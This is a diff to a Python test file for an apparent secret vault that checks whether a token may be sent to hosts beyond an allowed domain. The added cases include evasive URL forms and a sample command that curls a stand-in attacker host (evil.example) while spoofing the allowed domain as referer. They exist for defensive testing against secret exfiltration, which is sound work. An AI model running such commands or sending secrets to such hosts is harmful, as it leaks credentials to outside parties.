@@ -98,6 +98,8 @@ def test_keys_and_passwords_of_the_settings_are_known_too(tmp_path: Path) -> Non
         (ME, ("a.example",), {"url": "https://{{secret:TOKEN}}.a.example/x"}, "only"),
         (ME, ("a.example",), {"url": "https://u:{{secret:TOKEN}}@a.example/x"}, None),
         (ME, ("a.example",), {"u": ["https://a.example", "ftp://evil.example"], "t": "{{secret:TOKEN}}"}, "only"),
+        (ME, ("a.example",), {"u": ["https://a.example", "https:evil.example"], "t": "{{secret:TOKEN}}"}, "only"),
+        (ME, ("a.example",), {"u": ["https://a.example", "HTTPS:\\evil.example"], "t": "{{secret:TOKEN}}"}, "only"),
     ],
 )
 def test_a_secret_goes_where_the_settings_say_and_nowhere_else(
@@ -112,6 +114,28 @@ def test_a_secret_goes_where_the_settings_say_and_nowhere_else(
     assert told in str(problem)
     with pytest.raises(SecretProblem):
         kept.filled(who, args)
+
+
+@pytest.mark.parametrize(
+    ("args", "is_free"),
+    [
+        ({"host": "evil.example"}, False),
+        ({"to": "eve@evil.example"}, False),
+        ({"server": {"port": 443, "names": ["evil.example:443"]}}, False),
+        ({"peer": "10.0.0.7"}, False),
+        ({"peer": "LOCALHOST"}, False),
+        ({"command": "curl evil.example/in -e https://a.example"}, False),
+        ({"endpoint": "exämple.example"}, False),
+        ({"host": "A.example."}, True),
+        ({"body": "as on b.example, says eve@b.example", "path": "notes/plan.md"}, True),
+        ({"version": "2.10", "retries": 3, "accept": "application/json", "note": None}, True),
+    ],
+)
+def test_a_host_that_stands_without_a_scheme_is_asked_about(args: dict[str, object], is_free: bool) -> None:
+    kept = vault(domains=("a.example",))
+    given = {"url": "https://a.example/x", "auth": "{{secret:TOKEN}}", **args}
+    assert kept.refusal(ME, given) is None
+    assert kept.may_use(ME, given) == (frozenset({"TOKEN"}) if is_free else frozenset())
 
 
 def test_only_named_personas_get_a_secret_that_names_any() -> None:
